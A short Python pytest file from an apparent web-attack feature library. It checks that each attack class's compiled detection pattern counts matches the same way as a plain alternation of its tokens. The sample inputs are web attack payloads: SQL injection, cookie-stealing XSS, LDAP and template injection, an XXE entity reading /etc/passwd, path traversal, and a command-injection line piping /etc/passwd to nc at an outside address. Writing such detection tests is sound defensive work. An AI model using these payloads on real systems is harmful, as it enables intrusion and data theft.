"""One pattern of all tokens of a class finds what each of them alone says."""

import polars as pl
import pytest

from phantom_ml.features.knowledge.lists import knowledge
from phantom_ml.features.parsing.attack_signs import CLASSES, pattern

TEXTS = [
    "1' union all select name from users where a=1 or 1=1 -- x",
    "selection of a fromage; insert into t values(1)",
    "<script>alert(document.cookie)</script><img src=x onerror=prompt(1)>",
    "; cat /etc/passwd | nc 10.0.0.1 80 && whoami",
    "{{7*7}}${7*7}",
    "*)(uid=*))(|(uid=*",
    '<!doctype x [<!entity y system "file:///etc/passwd">]>',
    "../../boot.ini\t#x /* y */",
    "settimeout ( x ), atob\t(y), <p style = z>, < % eval %>, <![cdata[x]]>",
    "",
]


@pytest.mark.parametrize("name", CLASSES)
def test_a_pattern_counts_tokens_as_their_plain_alternation_does(name):
    plain = "|".join(f"(?:{token})" for token in knowledge("web_attacks")[name])
    text = pl.Series(TEXTS).str
    assert text.count_matches(pattern(name)).to_list() == text.count_matches(plain).to_list()
